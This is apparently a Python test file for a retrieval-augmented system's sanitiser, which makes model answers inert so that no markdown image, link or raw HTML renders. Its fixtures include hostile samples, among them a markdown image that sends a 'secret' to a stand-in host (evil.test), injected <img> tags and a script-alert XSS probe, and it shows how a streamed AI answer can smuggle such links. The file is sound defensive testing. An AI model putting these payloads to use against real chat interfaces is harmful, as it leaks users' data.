"""Nothing in an answer is loaded, and no link hides where it leads."""

from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.model import Hit, Passage
from rag.text.inert import InertText, make_inert
from workers.generation.prompting import CitedText

READER = MarkdownIt("commonmark", {"html": True})
HARMFUL = {"image", "link_open", "html_inline", "html_block"}
HOSTILE = [
    "![x](http://evil.test/?q=secret)",
    "[click here](http://evil.test)",
    "[1](http://evil.test)",
    "[1]: http://evil.test\n\nSee [1].",
    "a\n\n   [x]: http://evil.test\n\n![x][x] and [x]",
    "> [x]: http://evil.test\n\n[x]",
    "- [x]: http://evil.test\n\n[x]",
    "[x\ny]: http://evil.test\n\n[x y]",
    "1) - > [x]: http://evil.test\n\n[x]",
    "<img src=http://evil.test/?q=1>",
    "<http://evil.test>",
    "</p><script>alert(1)</script>",
    "<!-- x --><?php x ?><![CDATA[x]]>",
    "`<img src=x>",
    "``` ` <img src=x>\n<img src=x>",
    "> ```\n\n<img src=x>",
    "- ```\n\n<img src=x>",
    "~~~\ncode\n~~~\n<img src=x>",
    "````\n```\n````\n<img src=x>",
    "[x]\n(http://evil.test)",
    "[x] (http://evil.test)",
    "![x]\\(http://evil.test)",
    "[a[b](http://evil.test)](http://evil.test)",
]
PIECES = st.lists(
    st.sampled_from(
        [
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            ":",
            "`",
            "```",
            "~~~",
            "\n",
            " ",
            "    ",
            ">",
            "- ",
            "a",
            "/",
            "?",
            "\\",
            "1",
            "http://e.t",
        ]
    ),
    max_size=60,
)


def inert(text: str) -> str:
    return InertText().feed(text)


def tokens_of(text: str) -> set[str]:
    found = set()
    for token in READER.parse(text):
        found.add(token.type)
        found.update(child.type for child in token.children or ())
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_is_left(text: str) -> None:
    assert tokens_of(inert(text)) & HARMFUL == set()


@given(PIECES)
def test_nothing_that_can_be_written_is_left(pieces: list[str]) -> None:
    assert tokens_of(inert("".join(pieces))) & HARMFUL == set()


@given(PIECES)
def test_all_characters_stay_and_only_spaces_come(pieces: list[str]) -> None:
    text = "".join(pieces)

    assert inert(text).replace(" ", "") == text.replace(" ", "")


@given(PIECES)
def test_it_is_the_same_however_it_is_cut(pieces: list[str]) -> None:
    assert "".join(make_inert(pieces)) == inert("".join(pieces))


@pytest.mark.parametrize(
    "text",
    [
        "Words, 3 < 4, a[0], f(x) and [1] [2].",
        "See [1]. It is so: [2].",
        "```xml\n<a href='x'>y</a>\n[b](c)\n```\nAfter it [1].",
        "~~~\nList<String> x;\n~~~",
    ],
)
def test_what_harms_nobody_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize("piece", ["[", "](", "<", "`", "\n", "[x]:", "```\n"])
def test_it_takes_time_that_grows_with_the_text(piece: str) -> None:
    began = process_time()
    inert(piece * 200_000)

    assert process_time() - began < 5


def test_a_models_text_is_inert_in_every_piece() -> None:
    passage = Passage("c", "d", 1, 0, "text", "t", 0, 4, None, (), {})
    text = CitedText([Hit(passage, 0.9)])
    given_out = [text.feed(piece) for piece in ("So [1", "](http://evil.test) <im", "g src=x> ![a](", "b) ")]
    given_out.append(text.close())

    assert "".join(given_out) == text.answer().text
    assert tokens_of(text.answer().text) & HARMFUL == set()
    assert [citation.n for citation in text.answer().citations] == [1]
